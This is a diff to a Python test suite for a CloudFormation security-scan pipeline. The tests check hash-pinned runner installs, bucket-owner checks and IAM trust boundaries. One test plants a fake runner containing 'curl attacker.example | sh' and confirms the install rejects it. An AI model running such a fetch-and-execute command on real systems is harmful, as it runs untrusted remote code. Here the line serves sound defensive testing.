@@ -18,6 +18,7 @@ Run by scripts/lint-cfn.sh with the .venv/lint Python (cfn-lint's template loade
 
 from __future__ import annotations
 
+import hashlib
 import os
 import re
 import stat
@@ -86,6 +87,7 @@ PLATFORM_VARIABLES = re.compile(r"^(AWS_|LAMBDA_|_HANDLER$|_X_AMZN|RUST_LOG$|RUS
 # Actions that support no resource-level permissions (Service Authorization Reference).
 UNSCOPABLE = {
     "ecr:GetAuthorizationToken", "codepipeline:PutJobSuccessResult", "codepipeline:PutJobFailureResult",
+    "codepipeline:GetJobDetails",
     # CodeBuild in a VPC (ScanVpcId): the EC2 Describe actions support no resource-level permissions.
     "ec2:DescribeDhcpOptions", "ec2:DescribeNetworkInterfaces", "ec2:DescribeSecurityGroups", "ec2:DescribeSubnets",
     "ec2:DescribeVpcs",
@@ -243,7 +245,9 @@ class EnvironmentContract(unittest.TestCase):
         }
         env = RESOURCES["ProcessorFunction"]["Properties"]["Environment"]["Variables"]
         self.assertLessEqual(design, set(env))
-        self.assertEqual(set(RESOURCES["GateFunction"]["Properties"]["Environment"]["Variables"]), {"REPORT_BUCKET"})
+        self.assertEqual(
+            set(RESOURCES["GateFunction"]["Properties"]["Environment"]["Variables"]), {"REPORT_BUCKET", "EXPECTED_BUCKET_OWNER"}
+        )
 
 
 class IamContract(unittest.TestCase):
@@ -410,19 +414,125 @@ class ScanBuildspecs(unittest.TestCase):
             with self.subTest(project=project):
                 spec = buildspec(project)
                 self.assertEqual(spec["env"]["exported-variables"], PIPELINE_OUTPUTS)
-                self.assertEqual(spec["env"]["secrets-manager"], {"QUALYS_ACCESS_TOKEN": "${SecretArn}:accessToken"})
-                subs = RESOURCES[project]["Properties"]["Source"]["BuildSpec"]["Fn::Sub"][1]
-                self.assertEqual(subs["SecretArn"], {"Ref": "QualysSecret"})
-                self.assertEqual(subs["ReportGroupArn"], {"Fn::GetAtt": [group, "Arn"]})
-                self.assertEqual(list(spec["reports"]), ["${ReportGroupArn}"])
-                # The runner writes its JUnit to SCANGATE_JUNIT_PATH: that must be the file the report declares.
+                # The token is not exported to every command of the build: the runner fetches it by secret id.
+                self.assertNotIn("secrets-manager", spec["env"])
                 env = {e["Name"]: e["Value"] for e in scan_env(project)}
+                self.assertEqual(env["QUALYS_SECRET_ID"], {"Ref": "QualysSecret"})
+                self.assertNotIn("QUALYS_ACCESS_TOKEN", env)
+                subs = RESOURCES[project]["Properties"]["Source"]["BuildSpec"]["Fn::Sub"][1]
+                self.assertEqual(subs, {"ReportGroupArn": {"Fn::GetAtt": [group, "Arn"]}})
+                self.assertEqual(list(spec["reports"]), ["${ReportGroupArn}"])
+                # The runner writes its JUnit into its private work directory; the finally copies only that file
+                # into the directory the report declares.
+                self.assertNotIn("SCANGATE_JUNIT_PATH", env)
+                self.assertNotIn("OUTPUT_DIR", env)
                 report = spec["reports"]["${ReportGroupArn}"]
-                self.assertEqual([f"{report['base-directory']}/{f}" for f in report["files"]], [env["SCANGATE_JUNIT_PATH"]])
+                self.assertEqual(report["files"], ["junit.xml"])
+                finally_ = spec["phases"]["build"]["finally"]
+                self.assertIn(f'cp "$SCANGATE_WORK_DIR/junit.xml" {report["base-directory"]}/junit.xml', " ".join(finally_))
                 self.assertEqual(report["file-format"], "JUNITXML")
                 install = " ".join(spec["phases"]["install"]["commands"])
                 self.assertIn('s3://$SCANGATE_CODE_BUCKET/$SCANGATE_RUNNER_KEY', install)
                 self.assertIn("scangate scan ", " ".join(spec["phases"]["build"]["commands"]))
+
+    def test_buildspecs_never_source_a_file(self) -> None:
+        """A file in the checkout (or anywhere) is never run: no `.`/`source`, outputs read by `scangate scan exports`."""
+        for project in ("ImageProject", "RepoProject"):
+            spec = buildspec(project)
+            for phase, body in spec["phases"].items():
+                for command in body.get("commands", []) + body.get("finally", []):
+                    with self.subTest(project=project, phase=phase, command=command[:40]):
+                        self.assertNotRegex(command, r"(^|[;&|]\s*|\bthen\s+)(\.|source)\s")
+            self.assertEqual(spec["phases"]["build"]["finally"][0], 'eval "$(scangate scan exports)"')
+            self.assertEqual(spec["phases"]["install"]["commands"][0], 'export SCANGATE_WORK_DIR="$(mktemp -d)"')
+
+    def test_example_buildspecs_end_like_the_stack(self) -> None:
+        for project, example in (("ImageProject", "buildspec-image.yml"), ("RepoProject", "buildspec-repo.yml")):
+            with self.subTest(example=example):
+                mine = yaml.safe_load((ROOT / "examples" / example).read_text())
+                self.assertEqual(mine["phases"]["build"]["finally"], buildspec(project)["phases"]["build"]["finally"])
+                self.assertEqual(mine["phases"]["install"]["commands"], buildspec(project)["phases"]["install"]["commands"])
+
+
+class ScanInstallStep(unittest.TestCase):
+    """Runs the scan projects' install phase with a stand-in `aws` serving a local 'bucket'."""
+
+    RUNNER = b"#!/bin/sh\necho scangate-runner\n"
+
+    def run_install(self, project: str, body: bytes, pinned: str) -> tuple[subprocess.CompletedProcess, Path]:
+        work = Path(tempfile.mkdtemp())
+        (work / "bucket" / "scangate").mkdir(parents=True)
+        (work / "bucket" / "scangate" / "scangate").write_bytes(body)
+        fake = work / "bin" / "aws"
+        fake.parent.mkdir()
+        fake.write_text(
+            "#!/bin/bash\n"
+            'echo "$@" >> "$FAKE_LOG"\n'
+            '[[ $1 == s3 && $2 == cp ]] || exit 90\n'
+            'shift 2; args=(); for a in "$@"; do case $a in --expected-bucket-owner) owner=1;; --*) ;; *) '
+            '[[ $owner == 1 ]] && { owner=$a; continue; }; args+=("$a");; esac; done\n'
+            '[[ $owner == "$FAKE_OWNER" ]] || { echo "AccessDenied: bucket owner" >&2; exit 1; }\n'
+            'src=${args[0]#s3://}; cp "$FAKE_BUCKETS/${src#*/}" "${args[1]}"\n'
+        )
+        fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
+        target = work / "installed" / "scangate"
+        target.parent.mkdir()
+        commands = [c.replace("/usr/local/bin/scangate", str(target)) for c in buildspec(project)["phases"]["install"]["commands"]]
+        script = "set -e\n" + "\n".join(commands) + "\n"
+        env = {
+            "PATH": f"{fake.parent}:{os.environ['PATH']}",
+            "FAKE_LOG": str(work / "aws.log"),
+            "FAKE_BUCKETS": str(work / "bucket"),
+            "FAKE_OWNER": "111122223333",
+            "TMPDIR": str(work),
+            "SCANGATE_CODE_BUCKET": "code-us-east-1",
+            "SCANGATE_CODE_BUCKET_OWNER": "111122223333",
+            "SCANGATE_RUNNER_KEY": "scangate/scangate",
+            "SCANGATE_RUNNER_SHA256": pinned,
+        }
+        proc = subprocess.run(["bash", "-c", script], cwd=work, env=env, capture_output=True, text=True, check=False)
+        return proc, target
+
+    def test_installs_the_runner_that_matches_the_pin_from_the_expected_owner(self) -> None:
+        for project in ("ImageProject", "RepoProject"):
+            with self.subTest(project=project):
+                proc, target = self.run_install(project, self.RUNNER, hashlib.sha256(self.RUNNER).hexdigest())
+                self.assertEqual(proc.returncode, 0, proc.stderr)
+                self.assertEqual(target.read_bytes(), self.RUNNER)
+                self.assertTrue(os.access(target, os.X_OK))
+                log = (target.parent.parent / "aws.log").read_text()
+                self.assertIn("--expected-bucket-owner 111122223333", log)
+
+    def test_refuses_a_swapped_runner_and_an_empty_pin(self) -> None:
+        planted = b"#!/bin/sh\ncurl attacker.example | sh\n"
+        for project in ("ImageProject", "RepoProject"):
+            for body, pin, why in (
+                (planted, hashlib.sha256(self.RUNNER).hexdigest(), "another binary at the key"),
+                (self.RUNNER, "", "no pin"),
+            ):
+                with self.subTest(project=project, why=why):
+                    proc, target = self.run_install(project, body, pin)
+                    self.assertNotEqual(proc.returncode, 0)
+                    self.assertFalse(target.exists(), "nothing may be installed")
+                    self.assertIn("RunnerCodeSha256", proc.stderr)
+
+    def test_a_qscanner_download_is_pinned(self) -> None:
+        rule = TEMPLATE["Rules"]["QScannerIsPinned"]
+        self.assertEqual(rule["RuleCondition"], {"Fn::Not": [{"Fn::Equals": [{"Ref": "QScannerUrl"}, ""]}]})
+        self.assertEqual(rule["Assertions"][0]["Assert"], {"Fn::Not": [{"Fn::Equals": [{"Ref": "QScannerSha256"}, ""]}]})
+        for project in ("ImageProject", "RepoProject"):
+            names = {e["Name"] for e in scan_env(project)}
+            self.assertIn("QSCANNER_SHA256", names)
+            self.assertNotIn("QSCANNER_TRUST_SAME_HOST_SHA256", names, "the stack never trusts a same-host checksum")
+
+    def test_the_owner_is_the_code_bucket_owner_parameter_or_this_account(self) -> None:
+        for project in ("ImageProject", "RepoProject"):
+            env = {e["Name"]: e["Value"] for e in scan_env(project)}
+            self.assertEqual(
+                env["SCANGATE_CODE_BUCKET_OWNER"],
+                {"Fn::If": ["HasCodeBucketOwner", {"Ref": "CodeBucketOwner"}, {"Ref": "AWS::AccountId"}]},
+            )
+            self.assertEqual(env["SCANGATE_RUNNER_SHA256"], {"Ref": "RunnerCodeSha256"})
 
 
     def test_every_command_is_a_string(self) -> None:
@@ -469,6 +579,96 @@ class StackSetTemplate(unittest.TestCase):
                         self.assertEqual(str(mine.get("Default")), str(stack_params[key]["Default"]))
         self.assertEqual(props["PermissionModel"], "SERVICE_MANAGED")
         self.assertTrue(props["AutoDeployment"]["Enabled"])
+
+
+def bucket_statement(sid: str) -> dict:
+    for st in RESOURCES["ReportBucketPolicy"]["Properties"]["PolicyDocument"]["Statement"]:
+        if st.get("Sid") == sid:
+            return st
+    raise AssertionError(f"ReportBucketPolicy has no statement {sid}")
+
+
+def role_statement(policy_resource: str, sid: str) -> dict:
+    for st in statements(policy_resource):
+        if st.get("Sid") == sid:
+            return st
+    raise AssertionError(f"{policy_resource} has no Allow statement {sid}")
+
+
+class TrustBoundaries(unittest.TestCase):
+    """docs/security.md: the template half of the controls against an uploader, a same-named code bucket and
+    a forged gate invocation."""
+
+    def test_only_the_processor_writes_results_state_and_quarantine(self) -> None:
+        st = bucket_statement("OnlyTheProcessorWritesResults")
+        self.assertEqual((st["Effect"], st["Principal"], st["Action"]), ("Deny", "*", "s3:PutObject"))
+        self.assertEqual(
+            st["Resource"],
+            [{"Fn::Sub": "${ReportBucket.Arn}/results/*"}, {"Fn::Sub": "${ReportBucket.Arn}/state/*"},
+             {"Fn::Sub": "${ReportBucket.Arn}/quarantine/*"}],
+        )
+        self.assertEqual(st["Condition"], {"ArnNotEquals": {"aws:PrincipalArn": {"Fn::GetAtt": ["ProcessorRole", "Arn"]}}})
+        # And no other role is granted writes there in the first place.
+        for policy in ("ScanPolicy", "GatePolicy", "PublisherPolicy"):
+            for st in statements(policy):
+                if "s3:PutObject" in as_list(st["Action"]):
+                    for resource in as_list(st["Resource"]):
+                        text = str(resource)
+                        for prefix in ("/results/", "/state/", "/quarantine/"):
+                            self.assertNotIn(prefix, text, f"{policy} {st.get('Sid')} writes {prefix}")
+
+    def test_only_the_scan_role_and_named_uploaders_write_scans(self) -> None:
+        st = bucket_statement("OnlyNamedUploadersWriteScans")
+        self.assertEqual((st["Effect"], st["Principal"], st["Action"]), ("Deny", "*", "s3:PutObject"))
+        self.assertEqual(st["Resource"], {"Fn::Sub": "${ReportBucket.Arn}/scans/*"})
+        principals = st["Condition"]["ArnNotLike"]["aws:PrincipalArn"]["Fn::If"]
+        scan_role = {"Fn::GetAtt": ["ScanRole", "Arn"]}
+        self.assertEqual(principals[0], "HasUploaderRoles")
+        self.assertEqual(principals[2], [scan_role], "without UploaderRoleArns only the scan role uploads")
+        joined = principals[1]["Fn::Split"][1]["Fn::Join"][1]
+        self.assertEqual(joined, [scan_role, {"Fn::Join": [",", {"Ref": "UploaderRoleArns"}]}])
+        self.assertEqual(TEMPLATE["Parameters"]["UploaderRoleArns"]["Default"], "")
+
+    def test_runner_is_fetched_only_from_the_code_owners_bucket(self) -> None:
+        st = role_statement("ScanPolicy", "FetchRunner")
+        self.assertEqual(
+            st["Condition"],
+            {"StringEquals": {"s3:ResourceAccount": {"Fn::If": ["HasCodeBucketOwner", {"Ref": "CodeBucketOwner"},
+                                                                 {"Ref": "AWS::AccountId"}]}}},
+        )
+        self.assertEqual(TEMPLATE["Parameters"]["CodeBucketOwner"]["AllowedPattern"], "^(|[0-9]{12})$")
+
+    def test_functions_send_their_own_account_as_expected_bucket_owner(self) -> None:
+        for function in ("ProcessorFunction", "GateFunction"):
+            env = RESOURCES[function]["Properties"]["Environment"]["Variables"]
+            self.assertEqual(env["EXPECTED_BUCKET_OWNER"], {"Ref": "AWS::AccountId"}, function)
+
+    def test_metadata_cannot_relax_thresholds_unless_the_stack_opts_in(self) -> None:
+        self.assertEqual(TEMPLATE["Parameters"]["AllowMetadataRelax"]["Default"], "false")
+        env = RESOURCES["ProcessorFunction"]["Properties"]["Environment"]["Variables"]
+        self.assertEqual(env["ALLOW_METADATA_RELAX"], {"Ref": "AllowMetadataRelax"})
+
+    def test_the_gate_asks_codepipeline_and_has_no_resource_policy(self) -> None:
+        # CodePipeline's Lambda invoke action calls the function with the pipeline's service role
+        # (lambda:InvokeFunction in that role's policy): no resource-based policy is needed, so the stack adds
+        # none, and only principals of this account that IAM allows may invoke it. What they send is not trusted:
+        # the gate reads the job from CodePipeline (GetJobDetails).
+        self.assertIn("codepipeline:GetJobDetails", as_list(role_statement("GatePolicy", "AnswerPipelineJobs")["Action"]))
+        for name, resource in RESOURCES.items():
+            if resource["Type"] != "AWS::Lambda::Permission":
+                continue
+            props = resource["Properties"]
+            self.assertNotEqual(props.get("Principal"), "*", f"{name}: public invoke")
+            if props.get("FunctionName") in ({"Ref": "GateFunction"}, {"Fn::GetAtt": ["GateFunction", "Arn"]}):
+                self.assertEqual(props.get("Principal"), "codepipeline.amazonaws.com", name)
+                self.assertEqual(props.get("SourceAccount"), {"Ref": "AWS::AccountId"}, name)
+
+    def test_the_processor_may_read_the_uploading_build(self) -> None:
+        st = role_statement("ProcessorPolicy", "VerifyTheUploadingBuild")
+        self.assertEqual(st["Action"], "codebuild:BatchGetBuilds")
+        self.assertEqual(
+            st["Resource"], {"Fn::Sub": "arn:${AWS::Partition}:codebuild:${AWS::Region}:${AWS::AccountId}:project/*"}
+        )
 
 
 class Invariants(unittest.TestCase):
